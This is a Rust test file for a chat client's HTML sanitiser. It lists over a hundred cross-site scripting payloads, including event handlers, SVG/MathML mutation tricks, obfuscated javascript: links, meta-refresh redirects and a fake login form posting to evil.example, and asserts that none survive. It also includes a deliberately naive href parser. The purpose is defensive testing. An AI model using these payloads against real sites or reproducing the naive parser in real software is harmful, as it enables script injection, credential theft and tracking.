use proptest::prelude::*;

use super::*;

/// Ways to run script, fetch something, leave the message or look like a part of the window.
const PAYLOADS: &[&str] = &[
    // Script.
    "<script>SECRET()</script>",
    "<SCRIPT>SECRET()</SCRIPT>",
    "<script src=https://evil.example/x.js>SECRET</script>",
    "<script/x>SECRET()</script>",
    "<script>SECRET",
    "<script><!--<script>SECRET</script>--></script>",
    "<scr<script>ipt>shown</script>",
    "<script>/*</script><b>*/shown</b>",
    "<script\u{0}>shown</script>",
    "<script\n>SECRET()</script\n>",
    "</script><script>SECRET</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=SECRET()>\">",
    "<template><script>SECRET</script></template>",
    "<iframe srcdoc=\"<script>SECRET</script>\">SECRET</iframe>",
    "<iframe src=javascript:SECRET()></iframe>",
    "<iframe src=//evil.example>",
    "<object data=javascript:shown()></object>",
    "<embed src=javascript:SECRET()>",
    "<applet code=x></applet>",
    "<frameset><frame src=javascript:SECRET()></frameset>",
    "<xml><script>SECRET</script></xml>",
    // Event handlers.
    "<img src=x onerror=SECRET()>",
    "<img src=x onerror=\"SECRET()\" alt=ok>",
    "<img/src=x/onerror=SECRET()>",
    "<img src onerror=SECRET()>",
    "<img src=`x`onerror=SECRET()>",
    "<IMG SRC=x ONERROR=SECRET()>",
    "<b onmouseover=SECRET()>x</b>",
    "<p onclick=SECRET()>x</p>",
    "<body onload=SECRET()>x",
    "<div onpointerenter=SECRET()>x</div>",
    "<details open ontoggle=SECRET()>x</details>",
    "<video><source onerror=SECRET()></video>",
    "<audio src=x onerror=SECRET()>",
    "<input autofocus onfocus=SECRET()>",
    "<select autofocus onfocus=SECRET()>",
    "<textarea autofocus onfocus=SECRET()></textarea>",
    "<marquee onstart=SECRET()>x</marquee>",
    "<a href=https://e.org onclick=SECRET()>x</a>",
    "<a href=\"https://e.org\"onmouseover=SECRET()>x</a>",
    "<x onclick=SECRET()>x</x>",
    "<b/onclick=SECRET()//>x",
    "<button formaction=javascript:SECRET()>x</button>",
    "<keygen autofocus onfocus=SECRET()>",
    // SVG and MathML, namespace confusion.
    "<svg onload=SECRET()>",
    "<svg><script>SECRET()</script></svg>",
    "<svg/onload=SECRET()>",
    "<svg><animate onbegin=SECRET() attributeName=x>",
    "<svg><a xlink:href=javascript:SECRET()><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,AAAA></svg>",
    "<svg><foreignObject><script>SECRET</script></foreignObject></svg>",
    "<svg><style><img src=x onerror=SECRET()></style></svg>",
    "<svg><title><a id=\"</title><img src=x onerror=SECRET()>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=SECRET()>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=SECRET()></style>",
    "<math href=javascript:SECRET()>x</math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=SECRET()>",
    "<math><annotation-xml encoding=text/html><script>SECRET</script>",
    "<svg><![CDATA[><img src=x onerror=shown()>]]></svg>",
    "<math><mi//xlink:href=\"data:x,<script>SECRET</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=SECRET()>",
    "<form><form><input name=x></form></form>",
    "<table><form><input></table>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=shown()>\">",
    // Links.
    "<a href=javascript:SECRET()>x</a>",
    "<a href=JaVaScRiPt:SECRET()>x</a>",
    "<a href=\"java\tscript:SECRET()\">x</a>",
    "<a href=\"java\nscript:SECRET()\">x</a>",
    "<a href=\"java&#9;script:SECRET()\">x</a>",
    "<a href=\"javascript&colon;SECRET()\">x</a>",
    "<a href=\"&#106;avascript:SECRET()\">x</a>",
    "<a href=\"&#x6A&#x61vascript:SECRET()\">x</a>",
    "<a href=\" javascript:SECRET()\">x</a>",
    "<a href=\"\u{1}javascript:SECRET()\">x</a>",
    "<a href=\"javascript\u{0}:SECRET()\">x</a>",
    "<a href=\"\u{a0}javascript:SECRET()\">x</a>",
    "<a href=javascript://https://e.org/%0aSECRET()>x</a>",
    "<a href=data:text/html,<script>shown</script>>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<a href=vbscript:SECRET>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=\\\\host\\share>x</a>",
    "<a href=smb://host/share>x</a>",
    "<a href=ms-msdt:/id>x</a>",
    "<a href=search-ms:query>x</a>",
    "<a href=blob:https://e.org/1>x</a>",
    "<a href=tauri://localhost/>x</a>",
    "<a href=media:x>x</a>",
    "<a href=//evil.example/>x</a>",
    "<a href=/settings>x</a>",
    "<a href=#main>x</a>",
    "<a href=\"\">x</a>",
    "<a href=https://good.example@evil.example/>x</a>",
    "<a href=https:evil.example>x</a>",
    "<a href=https:///evil.example>x</a>",
    "<a href=tel:+1>x</a>",
    "<a href=view-source:https://e.org>x</a>",
    "<a href=https://e.org href=javascript:SECRET()>x</a>",
    "<a href=javascript:SECRET() href=https://e.org>x</a>",
    "<a a=1 href=javascript:SECRET()>x</a>",
    "<a xlink:href=javascript:SECRET()>x</a>",
    "<a href=https://e.org ping=https://evil.example>x</a>",
    "<a href=https://e.org target=_blank rel=opener download>x</a>",
    "<area href=javascript:SECRET()>",
    "<a href='mailto:a@b.org?attach=/etc/passwd'>x</a>",
    "<a href=https://matrix.to/#/@a:b><script>SECRET</script></a>",
    "<a href='https://matrix.to/#/@a\"onload=shown():b'>x</a>",
    // The document itself.
    "<base href=javascript:SECRET()//><a href=x>x</a>",
    "<meta http-equiv=refresh content=0;url=javascript:SECRET()>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=https://evil.example>",
    "<html><head><script>SECRET</script></head><body onload=SECRET()>x</body></html>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<isindex action=javascript:SECRET() type=image>",
    // Things that are fetched.
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/x 2x'>",
    "<picture><source srcset=https://evil.example/x></picture>",
    "<video poster=https://evil.example/x src=https://evil.example/y></video>",
    "<audio src=https://evil.example/x>",
    "<input type=image src=https://evil.example/x>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/x>x</table>",
    "<body background=https://evil.example/x>x</body>",
    // Comments, states and half tags.
    "<!--<img src=x onerror=SECRET()>-->",
    "<!--><img src=x onerror=shown()>",
    "<!-- --!><img src=x onerror=shown()>",
    "<![CDATA[<script>shown</script>]]>",
    "<?xml version=1?><x>x</x>",
    "<plaintext><script>shown",
    "<xmp><script>shown</script></xmp>",
    "<title><img src=x onerror=SECRET()></title>",
    "<style><img src=x onerror=SECRET()></style>",
    "<noembed><img src=x onerror=SECRET()></noembed>",
    "<img src=x onerror=SECRET(",
    "<a href=\"javascript:SECRET()",
    "<<b>x</b>",
    "<b<i>x",
    "</b/onclick=SECRET()>x",
    "<b \u{202e}onclick=SECRET()>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=x:<b>x</a>",
];

#[test]
fn no_payload_leaves_more_than_text_and_checked_links() {
    assert!(PAYLOADS.len() >= 100, "{}", PAYLOADS.len());
    for payload in PAYLOADS {
        for text in [
            (*payload).to_owned(),
            format!("before {payload} after"),
            format!("<b><ul><li>{payload}</b>"),
            payload.repeat(5),
        ] {
            let blocks = html(&text);
            assert_eq!(wrong(&blocks), None, "{text}");
            // The source of a script is missing altogether, and no attribute is ever read as text. Where a browser shows
            // such a source as text too, the payload says `shown`.
            let whole = serde_json::to_string(&blocks).unwrap();
            assert!(!whole.contains("SECRET"), "{text} gave {whole}");
        }
    }
}

#[test]
fn no_payload_does_anything_as_plain_text() {
    for payload in PAYLOADS {
        let blocks = plain(payload);
        assert_eq!(wrong(&blocks), None, "{payload}");
    }
}

/// A parser as one would write it in a hurry: what stands in `href` is the link.
fn naive(text: &str) -> Vec<Block> {
    let links = text.split("href=").skip(1).map(|rest| {
        let rest = rest.trim_start_matches(['"', '\'']);
        let href = rest.split(['"', '\'', '>']).next().unwrap_or_default().to_owned();
        Span::Link { host: String::new(), misleading: false, spans: vec![Span::Text { text: text.to_owned() }], href }
    });
    vec![Block::Paragraph { spans: links.collect() }]
}

#[test]
fn the_check_itself_notices_a_careless_parser() {
    let caught = PAYLOADS.iter().filter(|payload| wrong(&naive(payload)).is_some()).count();
    assert!(caught >= 40, "{caught}");
}

#[test]
fn no_style_class_or_colour_survives() {
    for given in [
        "<p style=\"position:fixed;top:0\">x</p>",
        "<span style=background:url(https://evil.example/x)>x</span>",
        "<div class=\"position fixed url banner\">x</div>",
        "<font color=\"fixed\" face=url>x</font>",
        "<span data-mx-color=\"red;position:fixed\" data-mx-bg-color=\"url(x)\">x</span>",
        "<style>@font-face{src:url(x)} p{position:fixed}</style>x",
        "<b id=url>x</b>",
        "<p hidden dir=rtl lang=url>x</p>",
        "<img alt=x width=99999 height=fixed style=position:fixed>",
        "<code class=\"language-url(fixed)\">x</code>",
        "<pre><code class='language-\"position\"'>x</code></pre>",
        "<pre><code class=position>x</code></pre>",
        "<ol style=position:fixed type=url><li value=fixed>x</ol>",
        "<table width=9999 bgcolor=url><td style=position:fixed>x",
        "<a href=https://e.org style=position:fixed class=url>x</a>",
    ] {
        let whole = serde_json::to_string(&html(given)).unwrap();
        assert!(whole.contains('x'), "{given}");
        for word in ["position", "fixed", "url", "style", "class", "red", "rtl", "9999"] {
            assert!(!whole.contains(word), "{given} gave {whole}");
        }
    }
}

#[test]
fn what_lies_too_deep_is_drawn_flat_and_nothing_is_lost() {
    for (open, close) in [
        ("<blockquote>", "</blockquote>"),
        ("<ul><li>", "</li></ul>"),
        ("<ol><li><b>", "</b></li></ol>"),
        ("<div><i><u><s><b>", ""),
    ] {
        let text = format!("{}deep{}<p>after</p>", open.repeat(500), close.repeat(500));
        let blocks = html(&text);
        assert_eq!(wrong(&blocks), None, "{open}");
        assert_eq!(to_plain(&blocks), "deep after", "{open}");
    }
    let widest = "<ul><li>".repeat(40) + "<a href=https://e.org><b><i><u><s>x";
    assert_eq!(wrong(&html(&widest)), None);
}

#[test]
fn too_much_becomes_plain_text() {
    for (piece, times) in [
        ("<b>x</b> <i>y</i> ", 9_000),
        ("<p>x y</p>", 15_000),
        ("x y<br>", 12_000),
        ("<ul><li>x y</ul>", 8_000),
        ("https://e.org x y ", 7_000),
    ] {
        let blocks = html(&piece.repeat(times));
        assert_eq!(wrong(&blocks), None, "{piece}");
        let last = serde_json::to_string(blocks.last().unwrap()).unwrap();
        assert!(last.len() > 1_000 && last.trim_end_matches(|c: char| !c.is_alphanumeric()).ends_with('y'), "{piece}");
    }
    for piece in ["x\n", "https://e.org x ", "@anna "] {
        assert_eq!(wrong(&plain(&piece.repeat(12_000))), None, "{piece}");
    }
    let huge = format!("<b>x</b>{}", " y".repeat(1_000_000));
    assert!(
        matches!(html(&huge).as_slice(), [Block::Paragraph { spans }] if matches!(spans.as_slice(), [Span::Text { .. }]))
    );
}

fn soup() -> impl Strategy<Value = String> {
    const PIECES: &[&str] = &[
        "<b>",
        "</b>",
        "<i>",
        "<u",
        "<s>",
        "<p>",
        "</p>",
        "<div>",
        "<ul>",
        "<li>",
        "</ul>",
        "<ol start=3>",
        "</ol>",
        "<blockquote>",
        "</blockquote>",
        "<pre>",
        "</pre>",
        "<code class=language-x>",
        "</code>",
        "<h3>",
        "</h3>",
        "<hr>",
        "<br>",
        "<table>",
        "<tr>",
        "<td>",
        "</table>",
        "<a href=",
        "https://e.org/",
        "javascript:x",
        "https://matrix.to/#/@anna:example.org",
        ">",
        "</a>",
        "\"",
        "'",
        "<script>",
        "</script>",
        "<style>",
        "</style>",
        "<svg>",
        "<math>",
        "<template>",
        "</template>",
        "<head>",
        "<body>",
        "<mx-reply>",
        "</mx-reply>",
        "<!--",
        "-->",
        "&amp;",
        "&#x202e;",
        "&#0;",
        "\0",
        "\u{202e}",
        "text ",
        " ",
        "@room",
        "@Anna Berg",
        "<img alt=x>",
        "<title>",
        "</title>",
        "<b ",
        "/",
        "=",
        "😀",
        "\n",
        "<a href=mailto:a@b.org>",
    ];
    prop::collection::vec(
        prop_oneof![9 => prop::sample::select(PIECES).prop_map(str::to_owned), 1 => "\\PC{0,4}"],
        0..60,
    )
    .prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 4_000, ..ProptestConfig::default() })]

    #[test]
    fn no_soup_of_tags_breaks_the_tree(text in soup()) {
        let blocks = html(&text);
        prop_assert_eq!(wrong(&blocks), None);
        let line = to_plain(&blocks);
        prop_assert!(line.chars().count() <= 200);
        let _ = jumbo(&blocks);
        prop_assert_eq!(wrong(&plain(&text)), None);
    }
}
